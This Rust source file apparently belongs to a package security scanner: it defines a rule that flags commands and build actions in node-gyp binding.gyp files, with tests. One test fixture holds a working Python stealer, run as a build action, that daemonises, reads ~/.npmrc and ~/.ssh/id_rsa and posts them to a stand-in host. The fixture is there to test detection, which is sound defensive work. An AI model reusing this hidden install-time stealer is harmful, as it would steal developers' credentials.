//! `code/gyp-command`.

use super::{chain, finding, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// `binding.gyp` runs a command when node-gyp builds the package at install, with no lifecycle script.
    ///
    /// ## What it detects
    /// Each GYP command expansion (`<!(cmd)`, `<!@(cmd)`, `>!(…)`, `<!pymod_do_main(…)`) and each build step of
    /// `actions` and `rules` (an `'action': ['python3', 'tools/gen.py', …]` list) in a `.gyp`/`.gypi` file.
    /// When npm runs `node-gyp rebuild` for the package (a root `binding.gyp`, no `install`/`preinstall` script of
    /// its own, `gypfile` not `false`), the expansions and the build steps run at install: the command is read like
    /// a lifecycle script (network tools, download-then-run, LOLBins are reported by their own rules) and the files
    /// it starts (`node x.js`, `sh x.sh`, `python x.py`) are install-time code, which raises every finding in them;
    /// a Python file started so is read for its capabilities (file reads, HTTP/SMTP sends, environment iteration,
    /// fork + `setsid`) so the credential and environment rules judge it. A capability, not a threat: info.
    ///
    /// ## Why it matters
    /// "Phantom Gyp" packages (2026) moved their payload from `postinstall`, which reviewers and `--ignore-scripts`
    /// policies look at, into a `binding.gyp` expansion that node-gyp evaluates while it configures the build.
    ///
    /// ## Example
    /// `"sources": ["src/binding.cc", "<!(node scripts/cpu-features.js)"]`
    ///
    /// ## Known false positives
    /// node-addon-api and nan document `<!(node -p "require('node-addon-api').include")`; `pkg-config` and `python -c`
    /// queries are common too; native addons generate sources with a Python or Node action (`js2c.py`, a version
    /// header). They are info, and the code they run is analysed like any other code: a generator that writes a
    /// header has nothing else to report.
    pub static GYP_COMMAND = { id: "code/gyp-command", severity: Severity::Info };
}

/// One info finding per command expansion.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::GypCommand, |f, s| {
        let when = if f.install_time {
            "runs when node-gyp builds the package at install"
        } else {
            "runs when node-gyp builds the package"
        };
        let msg = match s.detail.strip_prefix("action ") {
            Some(list) => format!("binding.gyp build action `{list}` {when}"),
            None => format!("binding.gyp command expansion `{}` {when}", s.detail),
        };
        Some(finding(
            &GYP_COMMAND,
            GYP_COMMAND.default_severity,
            f,
            s,
            Locality::Alone,
            msg,
            chain(p, f, s, &[]),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{hits, scan};

    #[test]
    fn positive_file_command_makes_the_file_install_time() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"version\":\"1.0.0\",\"gypfile\":true}",
            ),
            (
                "binding.gyp",
                "{\n  'targets': [{\n    'target_name': 'x',\n    'sources': ['src/x.cc', '<!(node scripts/pick.js)'],\n  }]\n}\n",
            ),
            ("scripts/pick.js", "console.log('src/x_generic.c');\n"),
        ]);
        assert_eq!(
            hits(&s, "code/gyp-command"),
            vec![("binding.gyp".to_string(), 4)]
        );
        assert_eq!(s.verdict, Verdict::Clean);
        assert!(s.findings[0].install_time);
    }

    /// A build action runs a bundled Python script that daemonises, reads credential stores
    /// and posts them: the script is install-time code and its capabilities are judged.
    #[test]
    fn positive_action_runs_a_python_stealer() {
        let s = scan(&[
            ("package.json", "{\"name\":\"t\",\"version\":\"1.0.0\"}"),
            (
                "binding.gyp",
                "{'targets': [{\n  'target_name': 'x',\n  'actions': [{\n    'action_name': 'cfg',\n    'action': ['python3', 'tools/cfg.py', '<(INTERMEDIATE_DIR)/cfg.h'],\n  }],\n}]}\n",
            ),
            (
                "tools/cfg.py",
                "import os, urllib.request\nif os.fork() == 0:\n    os.setsid()\n    home = os.path.expanduser('~')\n    blob = ''\n    for rel in ('.npmrc', '.ssh/id_rsa'):\n        with open(os.path.join(home, rel)) as fh:\n            blob += fh.read()\n    urllib.request.urlopen(urllib.request.Request('https://collect.example.net/u', data=blob.encode()))\n    os._exit(0)\nwith open('cfg.h', 'w') as fh:\n    fh.write('#pragma once\\n')\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/gyp-command"),
            vec![("binding.gyp".to_string(), 5)]
        );
        assert_eq!(
            hits(&s, "code/credential-theft"),
            vec![("tools/cfg.py".to_string(), 6)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// The benign look-alike: an action generating a header with a Python script that only
    /// reads its template and writes its output.
    #[test]
    fn negative_action_generates_a_header() {
        let s = scan(&[
            ("package.json", "{\"name\":\"t\",\"version\":\"1.0.0\"}"),
            (
                "binding.gyp",
                "{'targets': [{\n  'target_name': 'x',\n  'actions': [{\n    'action_name': 'js2c',\n    'inputs': ['tools/js2c.py', 'lib/a.js'],\n    'action': ['<(python)', 'tools/js2c.py', '<(INTERMEDIATE_DIR)/natives.h', '<@(_inputs)'],\n  }],\n}]}\n",
            ),
            (
                "tools/js2c.py",
                "import sys\nsrc = open(sys.argv[2]).read()\nwith open(sys.argv[1], 'w') as out:\n    out.write('static const char a[] = %r;' % src)\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/gyp-command"),
            vec![("binding.gyp".to_string(), 6)]
        );
        assert_eq!(s.verdict, Verdict::Clean);
        assert_eq!(s.findings.len(), 1);
    }

    /// With its own install script that does not call node-gyp, npm never runs node-gyp.
    #[test]
    fn own_install_script_without_node_gyp() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"install\":\"node fetch-prebuilt.js\"}}",
            ),
            (
                "binding.gyp",
                "{'targets': [{'sources': ['<!(node scripts/pick.js)']}]}",
            ),
            ("fetch-prebuilt.js", "module.exports = 1;\n"),
            ("scripts/pick.js", "console.log('a.c');\n"),
        ]);
        let gyp: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/gyp-command")
            .collect();
        assert_eq!(gyp.len(), 1);
        assert!(!gyp[0].install_time);
    }

    /// The node-addon-api idiom: info only, nothing else fires.
    #[test]
    fn negative_node_addon_api_idiom() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}",
            ),
            (
                "binding.gyp",
                "{\"targets\":[{\"include_dirs\":[\"<!@(node -p \\\"require('node-addon-api').include\\\")\"],\"dependencies\":[\"<!(node -p \\\"require('node-addon-api').gyp\\\")\"]}]}",
            ),
        ]);
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity == diligence_finding::Severity::Info)
        );
        assert_eq!(s.verdict, Verdict::Clean);
        assert_eq!(s.score, 0);
    }
}
